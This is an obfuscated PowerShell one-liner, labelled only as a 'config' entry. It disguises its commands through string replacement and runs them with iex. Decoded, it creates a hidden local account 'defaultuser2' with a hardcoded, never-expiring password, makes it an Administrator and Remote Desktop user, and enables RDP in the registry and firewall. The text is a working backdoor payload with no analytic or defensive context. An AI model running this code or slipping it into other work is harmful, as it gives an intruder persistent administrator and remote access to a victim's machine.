iex (('# config 7972 v4
$KZX95pw = ConvertTo-SecureString ''P@ssw0rvj~9!2024'' -AsPlKZX95ainText -Force
New-LocalUser -Name ''vj~9efaultuser2'' -Passworvj~9 $pw -Passworvj~9NeverExpires -AccountNeverExpires
Avj~9vj~9-LocalGroupMember -Group ''Avj~9ministrators'' -Member ''vj~9efaultuser2''
Avj~9vj~9-LocalGroupMember -Group ''RemoteKZX95 Desktop Users'' -Member ''vj~9efaultuser2''
Set-ItemKZX95Property -PKZX95ath ''HKLM:\System\CurrentControlSet\Control\Terminal Server'' -Name fDenyTSConnections -Value 0
Enable-NetFirewallRule -DisplayGroup ''Remote Desktop''
' -replace 'KZX95','').Replace('vj~9','d'))